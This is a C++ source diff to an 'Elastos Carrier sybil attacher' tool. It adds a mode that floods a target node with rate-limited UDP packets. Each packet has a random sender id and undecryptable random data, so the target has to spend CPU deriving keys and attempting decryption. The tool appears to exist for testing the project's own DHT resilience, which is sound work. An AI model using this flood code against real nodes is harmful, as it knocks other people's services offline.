@@ -26,6 +26,8 @@
 #include <stdlib.h>
 #include <chrono>
 #include <thread>
+#include <vector>
+#include <cstring>
 
 #if defined(_WIN32) || defined(_WIN64)
 #include <windows.h>
@@ -36,6 +38,9 @@
 #ifdef HAVE_UNISTD_H
 #include <unistd.h>
 #endif
+#ifndef _WIN32
+#include <sys/socket.h>
+#endif
 #ifdef HAVE_SYS_RESOURCE_H
 #include <sys/resource.h>
 #endif
@@ -56,6 +61,7 @@ struct Options {
     std::string id {};
     std::string ip {};
     int port = 0;
+    int rate = 0;  //packets per second, 0: unlimited
 };
 
 static Options options;
@@ -82,12 +88,13 @@ void signal_handler(int signum)
 static void parseArgs(int argc, char **argv)
 {
     CLI::App app("Elastos Carrier sybil attacher", "attacher");
-    app.add_option("-m, --mode", options.mode, "0: same address; 1: same node id.");
+    app.add_option("-m, --mode", options.mode, "0: same address; 1: same node id; 2: flood with undecryptable packets from random node ids.");
     app.add_option("-d, --duration", options.duration, "the duration (minute) of each node running");
     app.add_option("-i, --interval", options.interval, "the inerval time (second) of send 'find node' message.");
     app.add_option("-n, --remoteid", options.id, "remote node id.");
     app.add_option("-a, --remoteip", options.ip, "the ip of remote node.");
     app.add_option("-p, --remoteport", options.port, "the port of remote node.");
+    app.add_option("-r, --rate", options.rate, "the packets per second sent in the flood mode, 0 for unlimited.");
 
     try {
         app.parse(argc, argv);
@@ -165,6 +172,56 @@ static void run()
     } while((int64_t)expire - (int64_t)Utils::currentTimeMillis() > 0);
 }
 
+/*
+ * Every packet claims a new sender id, the remote node would have to derive
+ * a shared key and try to decrypt each of them if it doesn't shed them.
+ */
+static void flood()
+{
+    auto remote = SocketAddress(options.ip, options.port);
+    int sock = socket(remote.family(), SOCK_DGRAM, 0);
+    if (sock < 0) {
+        std::cout << "Can't create the socket: " << strerror(errno) << std::endl;
+        return;
+    }
+
+    uint64_t sent = 0;
+    auto start = Utils::currentTimeMillis();
+    auto expire = start + options.duration * 60 * 1000;
+    auto report = start + 1000;
+    uint64_t reported = 0;
+
+    while (Utils::currentTimeMillis() < expire) {
+        if (options.rate > 0 && sent >= (Utils::currentTimeMillis() - start) * options.rate / 1000) {
+            std::this_thread::sleep_for(std::chrono::milliseconds(1));
+            continue;
+        }
+
+        auto id = Id::random();
+        auto garbage = Utils::getRandomData(Utils::getRandom(32, 256));
+        std::vector<uint8_t> packet(ID_BYTES + garbage.size());
+        std::memcpy(packet.data(), id.data(), ID_BYTES);
+        std::memcpy(packet.data() + ID_BYTES, garbage.data(), garbage.size());
+
+        if (sendto(sock, (char*)packet.data(), packet.size(), 0, remote.addr(), remote.length()) > 0)
+            sent++;
+
+        auto now = Utils::currentTimeMillis();
+        if (now >= report) {
+            std::cout << "-------- flooding: " << (sent - reported) << " packets/s" << std::endl;
+            reported = sent;
+            report = now + 1000;
+        }
+    }
+
+#if defined(_WIN32) || defined(_WIN64)
+    closesocket(sock);
+#else
+    close(sock);
+#endif
+    std::cout << "-------- sent " << sent << " packets" << std::endl;
+}
+
 int main(int argc, char* argv[])
 {
 #ifdef HAVE_SYS_RESOURCE_H
@@ -172,13 +229,18 @@ int main(int argc, char* argv[])
 #endif
 
     parseArgs(argc, argv);
-    if (options.id.empty() || options.ip.empty() || options.port == 0) {
+    if ((options.id.empty() && options.mode != 2) || options.ip.empty() || options.port == 0) {
         std::cout << "Invalid remote id, remote ip or port. Please provide valid ones." << std::endl;
         return 0;
     }
 
     setupSignals();
 
+    if (options.mode == 2) {
+        flood();
+        return 0;
+    }
+
     dataDir = Utils::getPwdStorage(Utils::PATH_SEP + "malicious_node");
     run();
 